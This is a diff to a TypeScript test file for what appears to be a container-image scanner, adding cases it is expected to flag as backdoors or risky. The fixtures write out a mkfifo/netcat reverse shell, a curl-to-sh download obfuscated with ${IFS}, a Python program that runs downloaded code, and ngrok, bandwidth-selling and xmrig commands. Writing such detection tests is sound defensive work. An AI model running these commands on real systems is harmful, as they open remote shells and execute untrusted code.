@@ -53,6 +53,29 @@ const started: readonly Case[] = [
     { ...backdoor, reachable: true },
   ],
   [
+    'a shell between two ends of a pipe',
+    {
+      layers: [base],
+      config: {
+        Cmd: ['sh', '-c', 'mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f'],
+      },
+    },
+    { ...backdoor, reachable: true },
+  ],
+  [
+    'a download whose words are separated by variables',
+    { layers: [base], config: { Cmd: ['sh', '-c', 'curl${IFS}-s${IFS}http://198.51.100.7/x|sh'] } },
+    { ...backdoor, reachable: true },
+  ],
+  [
+    'a Python program that runs what it downloads',
+    {
+      layers: [[file('a.py', 'import requests\nexec(requests.get("http://198.51.100.7/x").text)\n')]],
+      config: { Cmd: ['python3', '/a.py'] },
+    },
+    { ...backdoor, reachable: true },
+  ],
+  [
     'an entrypoint that decodes and runs',
     { layers: [base], config: { Entrypoint: ['/bin/bash', '-c', `echo ${encoded} | base64 -d | bash`] } },
     { ...backdoor, reachable: true },
@@ -268,8 +291,23 @@ const lying: readonly Case[] = [
   ],
 ];
 
-/** Bad manners that nothing starts. */
+/** Bad manners: not started, or not known to be against the owner's will. */
 const doubtful: readonly Case[] = [
+  [
+    'a tunnel into the container',
+    { layers: [base], config: { Cmd: ['ngrok', 'tcp', '22'] } },
+    { verdict: 'risky', categories: ['proxy-avoidance'] },
+  ],
+  [
+    'a program that sells bandwidth',
+    { layers: [base], config: { Cmd: ['p2pclient', '--login', 'a@example.org'] } },
+    { verdict: 'risky', categories: ['other'] },
+  ],
+  [
+    'a miner of which only the name is there',
+    { layers: [base], config: { Cmd: ['xmrig'] } },
+    { verdict: 'risky', categories: ['cryptomining'] },
+  ],
   [
     'a script that fetches from a name over plain HTTP, when nothing starts it',
     {
